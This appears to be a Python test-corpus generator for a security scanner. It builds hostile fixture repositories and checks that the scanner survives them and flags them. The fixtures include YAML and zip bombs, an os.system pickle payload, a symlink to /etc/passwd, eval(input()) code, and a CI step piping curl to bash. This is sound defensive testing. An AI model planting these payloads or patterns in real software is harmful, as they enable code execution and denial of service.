"""A corpus of hostile inputs, generated on demand (nothing large is committed).

Each case is a small repository built in a directory: bombs, pathological sizes and
shapes, special files, odd names, broken configs. `tests/hostile/test_hostile_corpus.py`
scans every case through the CLI under an address-space limit and a timeout;
`bench/hostile.py` prints each case's wall time and peak memory for the README.

What every case must show: exit 0 or 1 (or 2 with a one-line message where the input is
a broken configuration), no traceback, no raw secret in any output, and every file
either counted as scanned or listed as skipped with a reason.
"""

from __future__ import annotations

import io
import json
import os
import random
import string
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

_rng = random.Random(1204)


def _token(prefix: str, n: int) -> str:
    alphabet = string.ascii_letters + string.digits
    while True:
        body = "".join(_rng.choice(alphabet) for _ in range(n))
        if any(c.isdigit() for c in body) and any(c.isupper() for c in body) and any(c.islower() for c in body):
            return prefix + body


GITHUB_TOKEN = _token("ghp_", 36)
SECRETS = (GITHUB_TOKEN,)


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Path], None]
    """Writes the case's files into an empty directory."""
    exit_codes: tuple[int, ...] = (0, 1)
    expect: tuple[str, ...] = ()
    """Substrings that must appear in the JSON report (rule ids, skip reasons, notes) or,
    for exit 2, in stderr."""
    scanners: str = ""
    """`--scanners` value; empty for all."""
    extra_args: tuple[str, ...] = field(default_factory=tuple)


def run_case(
    case: Case, root: Path, work: Path, *, python: str, env: dict[str, str], limit: int, timeout: float
) -> Outcome:
    """Scan one built case through the CLI in a child process under an address-space
    limit; returns its exit code, output, wall time and peak memory (the child's, or its
    workers' when larger: wait4 reports the largest of a process and its reaped children)."""
    import resource
    import subprocess
    import time

    def limits() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

    report = work / "report.json"
    cmd = [
        python,
        "-m",
        "aisec_ci",
        "scan",
        str(root),
        "--no-git",
        "--quiet",
        "--format",
        "json",
        "--output",
        str(report),
    ]
    if case.scanners:
        cmd += ["--scanners", case.scanners]
    cmd += list(case.extra_args)
    with (work / "stdout").open("wb") as out, (work / "stderr").open("wb") as err:
        started = time.monotonic()
        proc = subprocess.Popen(cmd, env=env, stdout=out, stderr=err, stdin=subprocess.DEVNULL, preexec_fn=limits)
        status, usage = 0, None
        while usage is None:
            pid, status, rusage = os.wait4(proc.pid, os.WNOHANG)
            if pid:
                usage = rusage
            elif time.monotonic() - started > timeout:
                proc.kill()
                os.wait4(proc.pid, 0)
                proc.returncode = -9
                return Outcome(None, _read(work / "stdout"), _read(work / "stderr"), "", timeout, 0)
            else:
                time.sleep(0.02)
        elapsed = time.monotonic() - started
    proc.returncode = os.waitstatus_to_exitcode(status)  # tell Popen it was reaped
    return Outcome(
        proc.returncode,
        _read(work / "stdout"),
        _read(work / "stderr"),
        _read(report),
        elapsed,
        usage.ru_maxrss * 1024,
    )


def _read(path: Path) -> str:
    try:
        return path.read_bytes().decode("utf-8", errors="replace")
    except OSError:
        return ""


@dataclass(frozen=True)
class Outcome:
    exit_code: int | None
    """None when the run was stopped at the timeout."""
    stdout: str
    stderr: str
    report: str
    seconds: float
    peak_bytes: int


def _write(root: Path, rel: str, data: str | bytes) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        path.write_text(data, encoding="utf-8")
    else:
        path.write_bytes(data)
    return path


def _sparse(root: Path, rel: str, size: int) -> None:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as fh:
        fh.truncate(size)


def _stream(root: Path, rel: str, chunk: bytes, total: int, head: bytes = b"", tail: bytes = b"") -> None:
    """A large file written in chunks (never built whole in memory)."""
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as fh:
        fh.write(head)
        written = 0
        while written < total:
            fh.write(chunk)
            written += len(chunk)
        fh.write(tail)


# --- code -------------------------------------------------------------------


def eval_lines(root: Path) -> None:
    _write(root, "gen/evals.py", "eval(input())\n" * 20_000)


def one_line_file(root: Path) -> None:
    _stream(root, "gen/oneline.py", b"eval(input());", 5 * 1024 * 1024, tail=b"\n")


def long_expression(root: Path) -> None:
    _stream(root, "gen/expr.py", b"1+" * 4096, 5 * 1024 * 1024, head=b"x = ", tail=b"1\n")


def deep_attributes(root: Path) -> None:
    _stream(root, "gen/attrs.py", b".a" * 4096, 2 * 1024 * 1024, head=b"x = a", tail=b"\n")


def deep_brackets(root: Path) -> None:
    _write(root, "gen/nested.py", "x = " + "[" * 100_000 + "]" * 100_000 + "\n")


# --- YAML and JSON -------------------------------------------------------------


def yaml_bomb(root: Path) -> None:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i, name in enumerate("bcdefghij"):
        prev = "abcdefghij"[i]
        lines.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
    body = "\n".join(lines) + "\n"
    _write(
        root,
        "k8s/bomb.yaml",
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata:\n" + "  " + body.replace("\n", "\n  "),
    )
    _write(root, ".github/workflows/bomb.yml", "on: push\n" + body + "jobs: {}\n")
    _write(root, "docker-compose.yml", "services:\n  web:\n    image: nginx\n" + body)


def many_documents(root: Path) -> None:
    doc = "---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n  containers:\n  - name: c\n    image: x\n"
    _stream(root, "k8s/many.yaml", doc.encode() * 1000, 100_000 * len(doc))


def compose_documents(root: Path) -> None:
    doc = "---\nservices:\n  s:\n    image: nginx\n    privileged: true\n"
    _stream(root, "docker-compose.yml", doc.encode() * 1000, 10 * 1024 * 1024)


def deep_json(root: Path) -> None:
    _write(root, "iam/deep.json", "[" * 200_000 + "]" * 200_000)
    _write(root, "notebooks/deep.ipynb", '{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}")


def json_bomb(root: Path) -> None:
    # Many distinct keys, each a long string: large after parsing, not a crash.
    _stream(root, "data/big.json", b'"k": "' + b"v" * 1000 + b'",', 20 * 1024 * 1024, head=b"{", tail=b'"end": 1}')


# --- sizes and special files -----------------------------------------------------


def sparse_files(root: Path) -> None:
    _write(root, "Dockerfile", "FROM python:3.11\nCOPY . /app\n")
    _sparse(root, ".dockerignore", 3 * 1024**3)
    _sparse(root, "data/huge.txt", 3 * 1024**3)
    _sparse(root, "models/huge.pkl", 3 * 1024**3)


def special_files(root: Path) -> None:
    _write(root, "app.py", "print('hi')\n")
    os.mkfifo(root / "pipe.yaml")
    os.symlink("/etc/passwd", root / "passwd.txt")
    os.symlink("/", root / "rootlink")
    os.symlink("loop", root / "loop")


def odd_names(root: Path) -> None:
    _write(root, "new\nline.py", "eval(input())\n")
    _write(root, " leading space.yaml", "a: 1\n")
    _write(root, "-rf.py", "import os\n")
    _write(root, f"tokens/{GITHUB_TOKEN}/config.py", f'TOKEN = "{GITHUB_TOKEN}"\n')
    bad = os.fsencode(root) + b"/latin1-\xff\xfe.py"
    with open(bad, "wb") as fh:
        fh.write(b"eval(input())\n")


def nul_bytes(root: Path) -> None:
    _write(root, "src/nul.py", "x = 1\n" * 1001 + "\x00 eval(input())\n")


# --- models ---------------------------------------------------------------------


def endless_pickle(root: Path) -> None:
    # Protocol 2 header, then MARK/NONE pairs forever: no STOP, an ever-deeper stack.
    _stream(root, "models/endless.pkl", b"(N" * 65536, 50 * 1024 * 1024, head=b"\x80\x02")
    _stream(root, "models/strings.pkl", b"\x8c\x03abc" * 16384, 50 * 1024 * 1024, head=b"\x80\x04")


def zip_bomb(root: Path) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("archive/data.pkl", b"\x00" * (512 * 1024 * 1024))
        zf.writestr("archive/version", "3\n")
    _write(root, "models/bomb.pt", buf.getvalue())


def pickles_by_content(root: Path) -> None:
    payload = b"cos\nsystem\n(S'id'\ntR."
    _write(root, "models/model.p", payload)
    _write(root, "config.json", payload)


def safetensors_lies(root: Path) -> None:
    _write(root, "models/liar.safetensors", (2**63).to_bytes(8, "little", signed=False)[:8] + b"{}")
    _write(root, "models/zeros.safetensors", b"\x00" * 4096)
    _write(root, "models/zeros.pt", b"\x00" * 4096)


# --- dependencies and configs -------------------------------------------------------


def big_poetry_lock(root: Path) -> None:
    _write(root, "pyproject.toml", '[tool.poetry]\nname = "x"\nversion = "1"\n')
    parts = []
    size = 0
    i = 0
    while size < 9 * 1024 * 1024:
        files = ",\n".join(
            f'    {{file = "pkg{i}-1.0.{j}-py3-none-any.whl", hash = "sha256:{_rng.getrandbits(256):064x}"}}'
            for j in range(20)
        )
        block = (
            f'[[package]]\nname = "pkg{i}"\nversion = "1.0.{i}"\ndescription = ""\noptional = false\n'
            f'python-versions = ">=3.8"\nfiles = [\n{files}\n]\n\n'
        )
        parts.append(block)
        size += len(block)
        i += 1
    _write(root, "poetry.lock", "".join(parts) + '[metadata]\nlock-version = "2.0"\n')


def big_ignore_list(root: Path) -> None:
    _write(root, "app.py", "eval(input())\n")
    entry = "  - path: 'gen/{i}/**'\n    reason: generated\n"
    _stream(
        root,
        ".aisec.yml",
        "".join(entry.format(i=i) for i in range(1000)).encode(),
        10 * 1024 * 1024,
        head=b"ignores:\n",
    )


def config_pointing_at_devices(root: Path) -> None:
    _write(root, "app.py", "eval(input())\n")
    _write(root, ".aisec.yml", "baseline: /dev/zero\n")


def broken_configs(root: Path) -> None:
    _write(root, "app.py", "eval(input())\n")
    _write(root, ".aisec.yml", f"fail-on: [\n  {GITHUB_TOKEN}\n")


def leaky_quotes(root: Path) -> None:
    _write(
        root, "src/run.py", f"import subprocess\nsubprocess.run(f\"curl -H 'token {GITHUB_TOKEN}' x\", shell=True)\n"
    )
    _write(
        root,
        ".github/workflows/ci.yml",
        "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n"
        f"      - run: curl -H 'token {GITHUB_TOKEN}' x | bash\n",
    )
    _write(
        root,
        "iam/p.json",
        json.dumps({"Statement": [{"Sid": GITHUB_TOKEN, "Effect": "Allow", "Action": "*", "Resource": "*"}]}),
    )


CASES: tuple[Case, ...] = (
    Case("eval-lines", eval_lines, expect=("code/",), scanners="code"),
    Case("one-line-5mb", one_line_file, scanners="code"),
    Case("long-expression", long_expression, scanners="code"),
    Case("deep-attributes", deep_attributes, scanners="code"),
    Case("deep-brackets", deep_brackets, scanners="code"),
    Case("yaml-bomb", yaml_bomb),
    Case("many-documents", many_documents, scanners="kubernetes,secrets"),
    Case("compose-documents", compose_documents, scanners="docker,secrets"),
    Case("deep-json", deep_json),
    Case("json-20mb", json_bomb),
    Case("sparse-files", sparse_files),
    Case("special-files", special_files),
    Case("odd-names", odd_names),
    Case("nul-bytes", nul_bytes),
    Case("endless-pickles", endless_pickle, scanners="models"),
    Case("zip-bomb", zip_bomb, scanners="models"),
    Case("pickles-by-content", pickles_by_content, expect=("models/pickle-code-execution",), scanners="models"),
    Case("safetensors-lies", safetensors_lies, scanners="models"),
    Case("poetry-lock-9mb", big_poetry_lock, scanners="deps", extra_args=("--offline",)),
    Case("ignore-list-10mb", big_ignore_list, exit_codes=(0, 1, 2)),
    Case("baseline-device", config_pointing_at_devices, exit_codes=(2,), expect=("/dev/zero",)),
    Case("broken-config", broken_configs, exit_codes=(2,), expect=(".aisec.yml",)),
    Case("leaky-quotes", leaky_quotes, expect=("iam/full-admin", "workflows/curl-pipe-shell")),
)
